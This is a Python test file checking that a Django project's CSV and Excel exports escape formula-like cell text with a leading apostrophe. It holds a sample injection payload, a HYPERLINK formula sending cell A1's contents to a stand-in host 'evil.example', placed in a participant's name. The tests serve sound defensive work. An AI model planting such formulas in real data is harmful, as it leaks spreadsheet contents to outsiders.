"""Text that a spreadsheet would run as a formula is written with a leading apostrophe, in every export."""

import csv
import io

import pytest
from openpyxl import load_workbook

from tilts.core.spreadsheets import safe_cell
from tilts.core.tests.listexports import exported
from tilts.exports import services
from tilts.exports.tests.helpers import awarded, make_mobility, read_csv
from tilts.mobility.tests.factories import make_participant, make_project

pytestmark = pytest.mark.django_db
ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Klikšķini")'


@pytest.mark.parametrize("text", ["=1+1", "+371", "-2", "@SUM(A1)", "\tx", "\rx"])
def test_dangerous_text_is_prefixed(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Rīga", "", "a=b", 5, -5, None])
def test_other_values_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


@pytest.fixture
def mobility(consortium, member, goals, coordinator):
    project = awarded(make_project(consortium))
    person = make_participant(member)
    person.first_name = ATTACK
    person.save()
    return make_mobility(project, member, goals, by=coordinator, participant=person, receiving_name="@evil")


def test_beneficiary_module_csv(mobility, coordinator) -> None:
    rows = read_csv(services.build_csv(coordinator, mobility.project))
    values = dict(zip(rows[0], rows[1], strict=True))
    assert values["Participant First Name"] == "'" + ATTACK
    assert values["Receiving Organisation Name"] == "'@evil"


def test_workbook(mobility, coordinator) -> None:
    book = load_workbook(io.BytesIO(services.build_xlsx(coordinator, mobility.project)))
    sheet = book["Mobilitātes"]
    row = [cell.value for cell in sheet[2]]
    assert "'@evil" in row
    assert all(not (isinstance(v, str) and v.startswith("=")) for sheet in book for r in sheet.values for v in r)
    people = [cell.value for cell in book["Dalībnieki"][2]]
    assert people[0].startswith("'")


def test_mobility_list_exports(mobility, coordinator_client) -> None:
    streamed = exported(coordinator_client, "mobilities", mobility.project_id)
    rows = list(csv.reader(io.StringIO(streamed.decode("utf-8-sig"))))
    assert "'@evil" in rows[1]
    workbook = exported(coordinator_client, "mobilities", mobility.project_id, "xlsx")
    sheet = load_workbook(io.BytesIO(workbook)).active
    values = [cell.value for cell in sheet[2]]
    assert "'@evil" in values and not any(isinstance(v, str) and v.startswith("=") for v in values)
